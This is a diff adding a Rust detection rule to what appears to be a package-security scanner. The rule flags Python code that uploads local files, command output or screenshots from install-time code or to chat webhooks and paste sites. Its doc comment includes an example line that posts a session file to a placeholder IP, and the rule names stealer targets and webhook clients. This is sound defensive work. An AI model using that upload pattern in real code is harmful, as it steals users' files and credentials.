@@ -1,0 +1,114 @@
+//! PY113 `data-exfiltration`: local files, command output or screenshots
+//! sent out by code nobody asked to run, or to a chat/paste/catcher service.
+//!
+//! **What it detects.** A network send (HTTP verbs, sockets, SMTP, FTP,
+//! chat-webhook clients) whose arguments carry the contents of a local
+//! file (`open(...)`, a `files=` upload), the output of a command, or
+//! screenshot pixels, when either
+//! - the file runs unasked (`setup.py`, an install hook, a `.pth`, the
+//!   package's top-level `__init__.py`), or
+//! - the destination is an exfiltration service: a Discord/Slack webhook,
+//!   the Telegram bot API, a paste or file-drop site, a request catcher or
+//!   tunnel (the same list as `INTEL502`).
+//!
+//! **Why it matters.** Stealers collect files (Telegram `.session` files,
+//! browser databases, wallet files, `ipconfig` output, screenshots) and
+//! upload them; at install time nothing legitimate uploads local data, and
+//! legitimate libraries do not post files to someone's chat channel
+//! (CWE-200, MITRE T1041/T1567).
+//!
+//! **Example.**
+//! ```python
+//! with open(session_file, "rb") as f:
+//!     requests.post("http://203.0.113.7:1337/check", files={"check": f})
+//! ```
+//!
+//! **False positives.** Upload clients (cloud SDKs, paste tools) send
+//! files from library code to their own service: not flagged unless the
+//! destination is a chat webhook, paste site or catcher, and then medium
+//! when the data is only a file the caller chose.
+
+use sluice_model::{Confidence, Finding, Severity};
+
+use super::at_call;
+use super::facts::{Call, Facts, Labels, is_net_call};
+
+/// Rule name.
+pub const NAME: &str = "data-exfiltration";
+
+const LOCAL: Labels = Labels(Labels::FILEDATA.0 | Labels::PROCOUT.0 | Labels::IMAGE.0);
+
+fn is_sender(c: &Call) -> bool {
+    if is_net_call(c) {
+        return true;
+    }
+    let t = c.target.as_str();
+    // discord_webhook / dhooks / telebot clients
+    (t.starts_with("discord_webhook.")
+        || t.starts_with("dhooks.")
+        || t.starts_with("telebot.")
+        || t.starts_with("telegram."))
+        || matches!(
+            c.method.as_str(),
+            "send_document" | "send_photo" | "add_file"
+        )
+}
+
+/// Check one file.
+#[must_use]
+pub fn check(f: &Facts<'_>) -> Vec<Finding> {
+    let role = f.file.role;
+    let file_service = f
+        .strings
+        .iter()
+        .find_map(|s| crate::ioc::exfil_service(&s.value));
+    let mut out = Vec::new();
+    for c in f.calls.iter().filter(|c| is_sender(c)) {
+        let mut data = c.arg_labels;
+        for (_, l) in &c.kw_labels {
+            data |= *l;
+        }
+        let uploads_file = c.kwarg("files").is_some();
+        if !data.has(LOCAL) && !uploads_file {
+            continue;
+        }
+        let service = c
+            .strings
+            .iter()
+            .find_map(|s| crate::ioc::exfil_service(s))
+            .or(file_service);
+        let (sev, conf) = match (role.runs_unasked(), service) {
+            (true, Some(_)) => (Severity::Critical, Confidence::High),
+            (true, None) => (Severity::High, Confidence::High),
+            (false, Some(_)) if data.has(Labels(Labels::PROCOUT.0 | Labels::IMAGE.0)) => {
+                (Severity::High, Confidence::High)
+            }
+            (false, Some(_)) => (Severity::Medium, Confidence::Medium),
+            (false, None) => continue,
+        };
+        let mut what = (data & LOCAL).names();
+        if what.is_empty() {
+            what.push("an uploaded file");
+        }
+        let mut fd = at_call(
+            f,
+            "PY113",
+            NAME,
+            sev,
+            conf,
+            format!("sends {} over the network", what.join(", ")),
+            c,
+        );
+        if let Some(s) = service {
+            fd = fd.evidence(format!("destination: a {s}"));
+        }
+        if role.runs_unasked() {
+            fd = fd.evidence("in code that runs unasked (install or import time)");
+        }
+        out.push(fd);
+        if out.len() >= 2 {
+            break;
+        }
+    }
+    out
+}
